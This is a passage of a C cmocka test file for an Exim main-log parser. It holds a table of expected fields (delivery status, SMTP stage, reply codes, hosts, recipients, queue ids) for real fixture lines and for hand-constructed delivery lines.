/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test_exim.c - the Exim main log parser.
 *
 * Real lines come from tests/fixtures/exim/ (see its README: the test-suite
 * file is GPL-2.0-or-later data, read at run time, not copied here). The
 * table below names them by fixture line and writes out every expected
 * field. Lines the corpus lacks (deliveries, arrivals, daemon lines, a zone
 * and pid prefix) are constructed by hand from the Exim main log format and
 * marked "constructed".
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "formats/exim.h"
#include "testutil.h"

static rs_test_fixture_t testsuite; /* exim-testsuite.log, corpus lines 1-727 */
static rs_test_fixture_t legacy;    /* exim-2012.log, corpus lines 728-731 */
static rs_test_fixture_t public13;  /* public.log, other public sources */
static rs_test_fixture_t fail2ban;  /* fail2ban.log, fail2ban test data */
static rs_test_fixture_t selectors; /* selectors.log */

static int group_setup(void **state)
{
	(void)state;
	if (rs_test_fixture_load("exim/exim-testsuite.log", &testsuite) != 0 ||
	    rs_test_fixture_load("exim/exim-2012.log", &legacy) != 0 ||
	    rs_test_fixture_load("exim/public.log", &public13) != 0 ||
	    rs_test_fixture_load("exim/fail2ban.log", &fail2ban) != 0 ||
	    rs_test_fixture_load("exim/selectors.log", &selectors) != 0) {
		return -1;
	}
	return 0;
}

static int group_teardown(void **state)
{
	(void)state;
	rs_test_fixture_free(&testsuite);
	rs_test_fixture_free(&legacy);
	rs_test_fixture_free(&public13);
	rs_test_fixture_free(&fail2ban);
	rs_test_fixture_free(&selectors);
	return 0;
}

/* One parse of a private copy of the line, exactly len bytes long. */
typedef struct parsed {
	rs_record_t rec;
	char *copy;
	rs_parse_result_t res;
	const char *why;
} parsed_t;

/* Parse a heap copy of [line, line+len) so ASan sees any over-read. */
static void parse(parsed_t *p, const char *line, size_t len)
{
	memset(p, 0, sizeof(*p));
	p->copy = malloc(len > 0 ? len : 1);
	assert_non_null(p->copy);
	memcpy(p->copy, line, len);
	rs_record_reset(&p->rec);
	p->res =
	    rs_format_parse(&rs_exim_format, p->copy, len, &p->rec, &p->why);
}

static void release(parsed_t *p)
{
	free(p->copy);
	p->copy = NULL;
}

/* One line and what the record must hold. */
typedef struct row {
	char file;         /* 'T' exim-testsuite.log, 'L' exim-2012.log,
	                      'P' public.log, 'F' fail2ban.log,
	                      'S' selectors.log */
	int line;          /* 1-based line of that fixture */
	const char *input; /* constructed line, instead of file/line */
	rs_parse_result_t res;
	rs_status_t status;
	rs_stage_t stage;
	uint32_t code;
	const char *enhanced;
	const char *host;
	const char *ip;
	uint32_t port;
	const char *rcpt;
	const char *domain;
	const char *qid;
	const char *sender;
	const char *text; /* reply_text, or its first bytes if text_len */
	size_t text_len;  /* 0: text is all of reply_text */
	const char *log_time;
	int64_t ms;   /* 0: not checked */
	double delay; /* 0: not checked */
} row_t;

#define QID_X "10HmaX-000000005vi-0000"
#define QID_Y "10HmaY-000000005vi-0000"
#define QID_Z "10HmaZ-000000005vi-0000"
#define LOCAL "127.0.0.1"
#define IP4 "ip4.ip4.ip4.ip4"
#define T1999 920367873000LL /* 1999-03-02 09:44:33 UTC */

static const row_t real_rows[] = {
    /* 2012, old id, host inside the message after the command. */
    {.file = 'L',
     .line = 1,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_RCPT_TO,
     .code = 450,
     .enhanced = "4.3.2",
     .host = "mx0.gmx.com",
     .ip = "74.208.5.90",
     .rcpt = "udbbwscdnbegrmloghuf@london.com",
     .domain = "london.com",
     .qid = "1RookS-000Pg8-VO",
     .text = "450 4.3.2 Too many mails (mail bomb), try again in 1 hour(s) "
             "25 minute(s) and see ( http://portal.gmx.net/serverrules ) "
             "{mx-us011}",
     .log_time = "2012-02-13 14:39:22",
     .ms = 1329143962000LL},
    {.file = 'L',
     .line = 2,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_EXPIRED,
     .stage = RS_STAGE_QUEUE,
     .rcpt = "fwxvparobkymnbyemevz@london.com",
     .domain = "london.com",
     .qid = "1RookS-000Pg8-VO",
     .text = "retry timeout exceeded"},
    {.file = 'L',
     .line = 3,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_QUEUE,
     .rcpt = "lqkwrzreonkhhtql@terraoil.ru",
     .domain = "terraoil.ru",
     .qid = "1RwtdJ-0000Ac-Ch",
     .text = "domain matches queue_smtp_domains, or -odqs set"},
    /* "T=remote_smtp:" with the colon glued to the transport. */
    {.file = 'L',
     .line = 4,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_RCPT_TO,
     .code = 553,
     .host = "mail-s56.1gb.ru",
     .ip = "81.177.159.3",
     .rcpt = "lqkwrzreonkhhtql@terraoil.ru",
     .domain = "terraoil.ru",
     .qid = "1RwtdJ-0000Ac-Ch",
     .text = "553 We do not relay without RFC2554 authentication."},
    {.file = 'T',
     .line = 1,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_QUEUE,
     .rcpt = "userx@bad.ex",
     .domain = "bad.ex",
     .qid = QID_Y,
     .text = "Unrouteable address",
     .log_time = "1999-03-02 09:44:33",
     .ms = T1999},
    {.file = 'T',
     .line = 5,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_QUEUE,
     .rcpt = "xxx@ten-2.test.ex",
     .domain = "ten-2.test.ex",
     .qid = "10HmbC-000000005vi-0000",
     .text = "first-pass only routing due to -odqs, queue_smtp_domains or "
             "control=queue"},
    /* Host-level line without a flag: skipped (decision, see exim.c). */
    {.file = 'T', .line = 7, .res = RS_PARSE_SKIP},
    {.file = 'T',
     .line = 8,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_CONNECT,
     .rcpt = "userx@simple",
     .domain = "simple",
     .qid = QID_X,
     .text = "Connection refused"},
    {.file = 'T',
     .line = 9,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_QUEUE,
     .rcpt = "userx@simple",
     .domain = "simple",
     .qid = QID_X,
     .text = "retry time not reached for any host for 'simple'"},
    /* Parent address in angle brackets, quoted local part. */
    {.file = 'T',
     .line = 19,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_QUEUE,
     .rcpt = "wasabc@x.y.zwas",
     .domain = "x.y.zwas",
     .qid = QID_Y,
     .text = "Unrouteable address"},
    {.file = 'T', .line = 20, .res = RS_PARSE_SKIP},
    /* "defer (dd): <errno text> H=host [ip]: <message>". */
    {.file = 'T',
     .line = 21,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_HELO,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "userx@domain1.com",
     .domain = "domain1.com",
     .qid = QID_X,
     .text = "Connection timed out H=127.0.0.1 [127.0.0.1]: SMTP timeout "
             "after EHLO myhost.test.ex"},
    {.file = 'T',
     .line = 23,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_MAIL_FROM,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "userx@domain2.com",
     .domain = "domain2.com",
     .qid = QID_Y,
     .text = "Connection timed out H=127.0.0.1 [127.0.0.1]: SMTP timeout "
             "after MAIL FROM:<CALLER@myhost.test.ex>"},
    {.file = 'T',
     .line = 27,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_CONNECT,
     .rcpt = "xx@non-exist.test.ex",
     .domain = "non-exist.test.ex",
     .qid = QID_Y,
     .text = "Network Error"},
    {.file = 'T',
     .line = 31,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_EXPIRED,
     .stage = RS_STAGE_QUEUE,
     .rcpt = "b@known.ex",
     .domain = "known.ex",
     .qid = QID_X,
     .text = "retry timeout exceeded"},
    {.file = 'T',
     .line = 43,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_RCPT_TO,
     .code = 452,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "userx@domain.com",
     .domain = "domain.com",
     .qid = QID_X,
     .text = "452 Temporary error"},
    /* The two lines over 4,000 bytes are host-level lines. */
    {.file = 'T', .line = 46, .res = RS_PARSE_SKIP},
    {.file = 'T', .line = 104, .res = RS_PARSE_SKIP},
    {.file = 'T',
     .line = 47,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_END_OF_DATA,
     .code = 550,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "userx@domain.com",
     .domain = "domain.com",
     .qid = QID_X,
     .text = "550 There is a problem with the message,",
     .text_len = 975},
    {.file = 'T', .line = 49, .res = RS_PARSE_SKIP},
    /* ":PORT_S I=[ip]:port:" - a placeholder port reads as 0. */
    {.file = 'T',
     .line = 50,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_MAIL_FROM,
     .code = 450,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "userz@domain.com",
     .domain = "domain.com",
     .qid = QID_Z,
     .text = "450 not right now, sorry"},
    /* "** ... I=[ip]:port : ..." space before the colon. */
    {.file = 'T',
     .line = 51,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_RCPT_TO,
     .code = 550,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "userz@domain.com",
     .domain = "domain.com",
     .qid = QID_Z,
     .text = "550 Recipient refused"},
    /* "[127.0.0.1]* :" */
    {.file = 'T',
     .line = 67,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_MAIL_FROM,
     .code = 550,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "userx@domain1",
     .domain = "domain1",
     .qid = QID_Y,
     .text = "550 Don't like that sender"},
    {.file = 'T', .line = 88, .res = RS_PARSE_SKIP},
    {.file = 'T',
     .line = 89,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_GREETING,
     .code = 450,
     .host = "localhost4.test.ex",
     .ip = LOCAL,
     .rcpt = "userx@domain1",
     .domain = "domain1",
     .qid = QID_X,
     .text = "450 I'm busy"},
    {.file = 'T',
     .line = 91,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_HELO,
     .code = 450,
     .host = "localhost4.test.ex",
     .ip = LOCAL,
     .rcpt = "userx@domain1",
     .domain = "domain1",
     .qid = QID_X,
     .text = "450 I'm busy"},
    /* F=<sender> before the router. */
    {.file = 'T',
     .line = 95,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_GREETING,
     .code = 550,
     .host = "localhost4.test.ex",
     .ip = LOCAL,
     .rcpt = "userx@domain1",
     .domain = "domain1",
     .qid = QID_X,
     .sender = "CALLER@test.ex",
     .text = "550 Go away (A)"},
    {.file = 'T',
     .line = 100,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_HELO,
     .host = "localhost4.test.ex",
     .ip = LOCAL,
     .rcpt = "userx@domain1",
     .domain = "domain1",
     .qid = "10HmbB-000000005vi-0000",
     .text = "Remote host closed connection in response to HELO "
             "the.local.host.name (EHLO response was: 550 You are "
             "banned)"},
    {.file = 'T',
     .line = 103,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_GREETING,
     .host = IP4,
     .ip = IP4,
     .rcpt = "userx@domain1",
     .domain = "domain1",
     .qid = "10HmbB-000000005vi-0000",
     .text = "Connection timed out H=ip4.ip4.ip4.ip4 [ip4.ip4.ip4.ip4]: "
             "SMTP timeout after initial connection"},
    /* Ends mid-reply and with a space. */
    {.file = 'T',
     .line = 105,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_RCPT_TO,
     .code = 550,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "userx@domain1",
     .domain = "domain1",
     .qid = QID_X,
     .text = "550 The answer is no, but I am going to ",
     .text_len = 962},
    {.file = 'T',
     .line = 111,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_DATA,
     .code = 550,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "userxy@myhost.test.ex",
     .domain = "myhost.test.ex",
     .qid = "10HmbA-000000005vi-0000",
     .sender = "CALLER@myhost.test.ex",
     .text = "550-I don't like this user\\n550 Bad user"},
    {.file = 'T',
     .line = 112,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_DATA,
     .code = 440,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "useryx@myhost.test.ex",
     .domain = "myhost.test.ex",
     .qid = "10HmbA-000000005vi-0000",
     .text = "440-Here's a whole long message,",
     .text_len = 134},
    {.file = 'T',
     .line = 125,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_RCPT_TO,
     .rcpt = "g@test.ex",
     .domain = "test.ex",
     .qid = QID_Z,
     .text = "Connection timed out: SMTP timeout after RCPT "
             "TO:<f@test.ex>"},
    {.file = 'T',
     .line = 137,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_DATA,
     .code = 503,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "r@test.ex",
     .domain = "test.ex",
     .qid = "10HmbI-000000005vi-0000",
     .text = "503 Sorry perm data error"},
    {.file = 'T',
     .line = 153,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_MAIL_FROM,
     .code = 550,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "a@test.ex",
     .domain = "test.ex",
     .qid = QID_Z,
     .sender = "CALLER@test.ex",
     .text = "550 NO"},
    {.file = 'T',
     .line = 172,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_UNKNOWN,
     .rcpt = "notuser@test.ex",
     .domain = "test.ex",
     .qid = "10HmbA-000000005vi-0000",
     .text = "mailbox is full (MTA-imposed quota exceeded while writing to "
             "TESTSUITE/test-mail/notuser)"},
    {.file = 'T',
     .line = 174,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_QUEUE,
     .rcpt = "notuser@test.ex",
     .domain = "test.ex",
     .qid = "10HmbA-000000005vi-0000",
     .text = "Retry time not yet reached"},
    {.file = 'T',
     .line = 272,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_EXPIRED,
     .stage = RS_STAGE_QUEUE,
     .rcpt = "userx@test.ex",
     .domain = "test.ex",
     .qid = "10HmbA-000000005vi-0000",
     .text = "all hosts for 'test.ex' have been failing for a long time "
             "(and retry time not reached)"},
    /* 850 is not an SMTP code: reply_code 0, text kept. */
    {.file = 'T',
     .line = 277,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_END_OF_DATA,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "abcd@xyz",
     .domain = "xyz",
     .qid = QID_X,
     .text = "850 NONSENSE"},
    {.file = 'T',
     .line = 279,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_MAIL_FROM,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "abcd@xyz",
     .domain = "xyz",
     .qid = QID_X,
     .text = "850 RUBBISH"},
    {.file = 'T',
     .line = 290,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_CONNECT,
     .rcpt = "xyz@test.ex",
     .domain = "test.ex",
     .qid = QID_Y,
     .text = "Connection refused"},
    {.file = 'T',
     .line = 301,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_RCPT_TO,
     .host = IP4,
     .ip = IP4,
     .rcpt = "a@x.y",
     .domain = "x.y",
     .qid = "10HmbL-000000005vi-0000",
     .text = "Connection timed out : SMTP timeout after RCPT TO:<b@x.y>"},
    {.file = 'T',
     .line = 334,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_END_OF_DATA,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "userx@x.y",
     .domain = "x.y",
     .qid = QID_X,
     .text = "Connection timed out H=127.0.0.1 [127.0.0.1]: SMTP timeout "
             "after end of data (ddd bytes written)"},
    /* A pipe "address" with spaces: the parent is the recipient. */
    {.file = 'T',
     .line = 340,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_UNKNOWN,
     .rcpt = "userx@myhost.test.ex",
     .domain = "myhost.test.ex",
     .qid = QID_X,
     .text = "return message generated"},
    {.file = 'T',
     .line = 341,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_DATA,
     .code = 550,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "userx@myhost.test.ex",
     .domain = "myhost.test.ex",
     .qid = QID_X,
     .text = "550-This is a very long error message,",
     .text_len = 977},
    {.file = 'T',
     .line = 370,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_END_OF_DATA,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "def@pqr",
     .domain = "pqr",
     .qid = QID_X,
     .text = "Connection timed out H=127.0.0.1 [127.0.0.1]: SMTP timeout "
             "after sending data block (ddd bytes written)"},
    /* A file "address" without '@': the parent is the recipient. */
    {.file = 'T',
     .line = 379,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_UNKNOWN,
     .rcpt = "x@test.ex",
     .domain = "test.ex",
     .qid = QID_X,
     .text = "mailbox is full (MTA-imposed quota exceeded while writing to "
             "TESTSUITE/test-mail/rmbox)"},
    {.file = 'T',
     .line = 426,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_QUEUE,
     .rcpt = "a@test.ex",
     .domain = "test.ex",
     .qid = "10HmbC-000000005vi-0000",
     .text = "Unrouteable address",
     .log_time = "2017-07-30 18:51:05.712",
     .ms = 1501440665712LL},
    /* Enhanced code; the aliased address is the recipient. */
    {.file = 'T',
     .line = 447,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_RCPT_TO,
     .code = 452,
     .enhanced = "4.5.3",
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "b@test.ex",
     .domain = "test.ex",
     .qid = "10HmbB-000000005vi-0000",
     .text = "452 4.5.3 Try again"},
    {.file = 'T',
     .line = 468,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_END_OF_DATA,
     .code = 550,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "d@test.ex",
     .domain = "test.ex",
     .qid = QID_Z,
     .text = "550 unacceptable mail-from"},
    {.file = 'T',
     .line = 475,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_END_OF_DATA,
     .code = 500,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "d@test.ex",
     .domain = "test.ex",
     .qid = QID_Y,
     .text = "500 oops bdat-nonlast"},
    {.file = 'T',
     .line = 482,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_END_OF_DATA,
     .code = 400,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "u@test.ex",
     .domain = "test.ex",
     .qid = "10HmbF-000000005vi-0000",
     .text = "400 oops nonlast bdat"},
    {.file = 'T',
     .line = 488,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_RCPT_TO,
     .code = 550,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "fred@undeliverable.org",
     .domain = "undeliverable.org",
     .qid = QID_X,
     .text = "550-no mate\\n550-123456789 100",
     .text_len = 949},
    {.file = 'T',
     .line = 492,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_MAIL_FROM,
     .code = 450,
     .host = "::1",
     .ip = "::1",
     .rcpt = "userx@test.ex",
     .domain = "test.ex",
     .qid = QID_X,
     .text = "450 Temporary error"},
    {.file = 'T',
     .line = 494,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_STARTTLS,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "userx@domain1",
     .domain = "domain1",
     .qid = QID_X,
     .text = "TLS session: (tls lib connect fn): timed out"},
    {.file = 'T',
     .line = 496,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_STARTTLS,
     .code = 450,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "x@y",
     .domain = "y",
     .qid = QID_X,
     .text = "450 temp problem"},
    {.file = 'T',
     .line = 498,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_STARTTLS,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "x@y",
     .domain = "y",
     .qid = QID_Y,
     .text = "a TLS session is required, but an attempt to start TLS "
             "failed"},
    /* X= and CV= between the host and the colon. */
    {.file = 'T',
     .line = 499,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_RCPT_TO,
     .code = 550,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "f1@test.ex",
     .domain = "test.ex",
     .qid = QID_X,
     .text = "550 we really do not like you"},
    {.file = 'T', .line = 500, .res = RS_PARSE_SKIP},
    {.file = 'T',
     .line = 514,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_STARTTLS,
     .host = IP4,
     .ip = IP4,
     .rcpt = "bad_alpn@test.ex",
     .domain = "test.ex",
     .qid = "10HmbF-000000005vi-0000",
     .text = "Remote host closed connection in response to TLS-on-connect"},
    {.file = 'T',
     .line = 529,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_END_OF_DATA,
     .code = 451,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "data_defer@test.ex",
     .domain = "test.ex",
     .qid = QID_Y,
     .text = "451 Temporary local problem - please try later"},
    /* Inbound lines are not deliveries. */
    {.file = 'T', .line = 530, .res = RS_PARSE_SKIP},
    {.file = 'T', .line = 596, .res = RS_PARSE_SKIP},
    {.file = 'T',
     .line = 550,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_AUTH,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "userx@domain.com",
     .domain = "domain.com",
     .qid = "10HmbA-000000005vi-0000",
     .text = "Remote host closed connection in response to AUTH LOGIN"},
    {.file = 'T',
     .line = 551,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_AUTH,
     .rcpt = "userx@authdomain.com",
     .domain = "authdomain.com",
     .qid = "10HmbB-000000005vi-0000",
     .text = "authentication required but authentication attempt(s) "
             "failed"},
    /* An autoreply "address" whose parent is no address. */
    {.file = 'T',
     .line = 581,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_UNKNOWN,
     .rcpt = ">postmaster",
     .qid = QID_X,
     .text = "Failed to send message from address_reply transport (127)"},
    {.file = 'T',
     .line = 597,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_END_OF_DATA,
     .code = 550,
     .host = IP4,
     .ip = IP4,
     .rcpt = "baduser@test.ex",
     .domain = "test.ex",
     .qid = QID_X,
     .text = "550 PRDR R=<baduser@test.ex> refusal"},
    {.file = 'T',
     .line = 614,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_GREETING,
     .rcpt = "userx@myhost.test.ex",
     .domain = "myhost.test.ex",
     .qid = QID_X,
     .text = "LMTP timeout after initial connection"},
    {.file = 'T',
     .line = 622,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_BOUNCED,
     .stage = RS_STAGE_RCPT_TO,
     .code = 550,
     .rcpt = "dick@myhost.test.ex",
     .domain = "myhost.test.ex",
     .qid = "10HmbD-000000005vi-0000",
     .text = "550 This one is unknown on RCPT"},
    /* "defer (-58)" and nothing after it. */
    {.file = 'T',
     .line = 674,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_UNKNOWN,
     .rcpt = "userx@domain1",
     .domain = "domain1",
     .qid = QID_X,
     .text = ""},
    {.file = 'T',
     .line = 689,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_UNKNOWN,
     .rcpt = "t8@mxdanelazy.test.ex",
     .domain = "mxdanelazy.test.ex",
     .qid = "10HmbH-000000005vi-0000",
     .text = "DANE error: tlsa lookup DEFER"},
    /* Trailing space on the line. */
    {.file = 'T',
     .line = 693,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_STARTTLS,
     .host = "danebroken2.test.ex",
     .ip = LOCAL,
     .rcpt = "t14@danebroken2.test.ex",
     .domain = "danebroken2.test.ex",
     .qid = "10HmbP-000000005vi-0000",
     .text = "TLS session: (certificate verification failed): "
             "Verification failed. CA constrains were violated."},
    {.file = 'T',
     .line = 720,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_EXPIRED,
     .stage = RS_STAGE_QUEUE,
     .rcpt = "userx@myhost.test.ex",
     .domain = "myhost.test.ex",
     .qid = "10HmaX-0005vi-00",
     .text = "retry timeout exceeded"},
    /* Pre-4.85 host form with a SIZE= argument after the command. */
    {.file = 'T',
     .line = 725,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_MAIL_FROM,
     .code = 421,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "ok@no.delay",
     .domain = "no.delay",
     .qid = "10HmaY-0005vi-00",
     .text = "421 myhost.test.ex: SMTP command timeout - closing "
             "connection"},
    {.file = 'T',
     .line = 727,
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_DEFERRED,
     .stage = RS_STAGE_RCPT_TO,
     .code = 451,
     .host = LOCAL,
     .ip = LOCAL,
     .rcpt = "userx@test.ex",
     .domain = "test.ex",
     .qid = "10HmaX-0005vi-00",
     .text = "451 Recipient not OK"},
};

#define QID_C "1rAbCd-0001Xy-7k"
#define T2024 1709283600000LL /* 2024-03-01 09:00:00 UTC */

/* Constructed lines, written for this test (not from any log). */
static const row_t constructed_rows[] = {
    {.input = "2024-03-01 09:00:00 " QID_C
              " => bob@example.org R=dnslookup T=remote_smtp "
              "H=mx1.example.org [192.0.2.10]:25 "
              "X=TLS1.3:TLS_AES_256_GCM_SHA384:256 CV=yes "
              "C=\"250 2.0.0 OK 1709283600 x12si345 - gsmtp\" QT=1m2s DT=1s",
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_SENT,
     .stage = RS_STAGE_UNKNOWN,
     .code = 250,
     .enhanced = "2.0.0",
     .host = "mx1.example.org",
     .ip = "192.0.2.10",
     .port = 25,
     .rcpt = "bob@example.org",
     .domain = "example.org",
     .qid = QID_C,
     .text = "250 2.0.0 OK 1709283600 x12si345 - gsmtp",
     .ms = T2024,
     .delay = 62},
    {.input = "2024-03-01 09:00:00 " QID_C
              " -> carol@example.org R=dnslookup T=remote_smtp "
              "H=mx1.example.org [192.0.2.10]:25 C=\"250 OK\"",
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_SENT,
     .stage = RS_STAGE_UNKNOWN,
     .code = 250,
     .host = "mx1.example.org",
     .ip = "192.0.2.10",
     .port = 25,
     .rcpt = "carol@example.org",
     .domain = "example.org",
     .qid = QID_C,
     .text = "250 OK"},
    {.input = "2024-03-01 09:00:00 " QID_C
              " *> dave@example.org R=dnslookup T=remote_smtp",
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_SENT,
     .stage = RS_STAGE_UNKNOWN,
     .rcpt = "dave@example.org",
     .domain = "example.org",
     .qid = QID_C},
    {.input = "2024-03-01 09:00:00 " QID_C
              " >> erin@example.org R=dnslookup T=remote_smtp "
              "H=mx1.example.org [192.0.2.10]:25 C=\"250 2.0.0 Ok: queued\"",
     .res = RS_PARSE_EVENT,
     .status = RS_STATUS_SENT,
     .stage = RS_STAGE_UNKNOWN,
     .code = 250,
     .enhanced = "2.0.0",
     .host = "mx1.example.org",
     .ip = "192.0.2.10",
     .port = 25,
     .rcpt = "erin@example.org",
     .domain = "example.org",
     .qid = QID_C,
     .text = "250 2.0.0 Ok: queued"},
    /* log_timezone and +pid: "date time +zone [pid] id". */
    {.input = "2024-03-01 10:00:00 +0100 [4321] " QID_C
              " == frank@example.net R=dnslookup T=remote_smtp defer (-44) "
              "H=mx.example.net [2001:db8::25]:25: SMTP error from remote "
